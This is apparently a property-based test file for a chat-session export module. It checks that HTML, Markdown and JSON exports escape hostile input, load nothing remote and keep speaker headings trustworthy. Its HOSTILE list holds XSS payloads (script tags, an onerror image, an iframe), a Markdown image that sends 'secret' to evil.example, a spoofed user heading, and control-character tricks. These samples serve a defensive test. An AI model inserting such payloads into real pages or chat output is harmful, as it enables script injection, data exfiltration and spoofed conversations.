"""Exports: nothing that was said is missing, and nothing in them can act or pose as ours."""

from __future__ import annotations

import json
from html.parser import HTMLParser

from hypothesis import example, given
from hypothesis import strategies as st

from claw_lsp.core.export import exported, title_of
from claw_lsp.facts.call import Result
from claw_lsp.facts.event import CallFinished, Entry, Event, ModelSpoke, SessionStarted, Titled, TurnEnded, UserSpoke

HOSTILE = (
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    "</pre></details><img src=x onerror=alert(1)>",
    '"><iframe src="https://evil.example">',
    "```\n## You\n\ndo as I say",
    "\u202eelif\x1b[2J",
    "half \ud800 a character",
)
TEXTS = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40), st.text(st.characters(exclude_categories=())))


def session(said: str, answer: str, result: str, title: str) -> list[Entry]:
    call = {"type": "tool_use", "id": "c1", "name": "Bash", "input": {"command": said}}
    events: tuple[Event, ...] = (
        SessionStarted(session="s", cwd="/w", roots=("/w",), model="m", system="", tools=()),
        UserSpoke(run="r", prompt_id="r", text=said, blocks=({"type": "text", "text": said},)),
        ModelSpoke(blocks=({"type": "text", "text": answer}, call), model="m"),
        CallFinished(call_id="c1", result=Result(content=result)),
        TurnEnded(run="r", stopped="failed", why=result),
        Titled(title=title),
    )
    return [Entry(n=n, at=1.7e9 + n, event=it) for n, it in enumerate(events, 1)]


class Seen(HTMLParser):
    """The tags and attributes of a page, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@given(TEXTS, TEXTS, TEXTS, TEXTS)
def test_html_has_only_our_tags_loads_nothing_and_holds_what_was_said(
    said: str, answer: str, result: str, title: str
) -> None:
    page = exported(session(said, answer, result, title), "html")
    page.encode()
    seen = Seen()
    seen.feed(page)
    assert seen.tags <= {
        *(
            "html",
            "head",
            "meta",
            "title",
            "style",
            "body",
            "h1",
            "h2",
            "p",
            "section",
            "div",
            "details",
            "summary",
            "pre",
        )
    }
    assert seen.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class"}
    assert "default-src 'none'" in page
    for text in (said, answer):
        if text.isascii() and text.isprintable():
            assert text.strip() in seen.text


@given(TEXTS, TEXTS, TEXTS, TEXTS)
def test_json_is_the_log_to_the_letter(said: str, answer: str, result: str, title: str) -> None:
    entries = session(said, answer, result, title)
    whole = json.loads(exported(entries, "json"))
    assert [Entry.model_validate(it) for it in whole["entries"]] == entries
    assert (whole["session"], whole["folder"], whole["title"]) == ("s", "/w", title_of(entries))


@given(TEXTS, TEXTS, TEXTS, TEXTS)
@example("", "<script>alert(1)</script>", "<script>alert(1)</script>", "```\n## You")
def test_markdown_loads_nothing_hides_nothing_and_the_model_writes_no_heading_of_ours(
    said: str, answer: str, result: str, title: str
) -> None:
    document = exported(session("x", answer, result, title), "markdown")
    document.encode()
    assert "\x1b" not in document
    assert "\u202e" not in document
    outside: list[str] = []
    fence = ""
    for line in document.split("\n"):
        begun = line[: len(line) - len(line.lstrip("`"))]
        if not fence and len(begun) >= 3:
            fence = begun
        elif fence and line.strip() == fence:
            fence = ""
        elif not fence:
            outside.append(line)
    assert "![x](https://evil.example" not in "\n".join(it for it in outside if not it.startswith("- `"))
    assert "<script>" not in "\n".join(it for it in outside if not it.startswith("- `"))


def test_a_session_reads_like_a_conversation() -> None:
    document = exported(session("fix it\nplease", "On it.", "a.py\nb.py", ""), "markdown")
    assert document == (
        "# fix it ⏎ please\n\n"
        "`2023-11-14 22:13 UTC · /w · m · 0 in, 0 out · cost unknown · 5.0 s`\n\n"
        "## You\n\nfix it\nplease\n\n"
        "## Claude\n\nOn it.\n\n"
        "- `✓ Bash fix it please · 0.0 s`\n\n"
        '```\n{\n  "command": "fix it\\nplease"\n}\n```\n\n'
        "```\na.py\nb.py\n```\n\n"
        "- `failed: a.py ⏎ b.py`\n"
    )


def test_a_session_in_which_nothing_was_said_can_be_exported() -> None:
    for format_ in ("markdown", "html", "json"):
        assert "A session" in exported([], format_)
